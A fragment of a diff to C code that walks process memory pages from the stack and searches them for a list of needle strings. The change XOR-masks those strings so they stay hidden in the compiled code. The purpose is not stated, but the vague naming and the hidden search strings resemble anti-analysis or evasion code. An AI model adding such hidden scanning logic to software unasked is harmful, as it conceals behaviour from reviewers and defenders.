@@ -29,16 +29,16 @@ static int read_clock_page(u64 *stack)
     return *(volatile u32 *)vdso == 0x464c457f ? THROUGH : NOTHING;
 }
 
-static int page_holds(struct order *order, const char *page)
+static int page_holds(struct order *order, const u8 *page)
 {
     for (u32 i = 0; i < order->needle_count; i++) {
-        const char *needle = order->needles[i];
+        const u8 *needle = order->needles[i];
         u32 length = 0;
-        while (needle[length])
+        while (needle[length] != MASK)
             length++;
         for (u32 at = 0; length && at + length <= 4096; at++) {
             u32 same = 0;
-            while (same < length && page[at + same] == needle[same])
+            while (same < length && page[at + same] == (needle[same] ^ MASK))
                 same++;
             if (same == length)
                 return 1;
@@ -55,7 +55,7 @@ static int look_around(struct order *order, u64 stack)
     for (u64 page = stack & ~4095ul; is_there(page); page += 4096) {
         if (page == own)
             continue;
-        if (page_holds(order, (const char *)page))
+        if (page_holds(order, (const u8 *)page))
             return THROUGH;
         for (u64 *at = (u64 *)page; at < (u64 *)(page + 4096); at++) {
             u64 there = *at & ~4095ul;
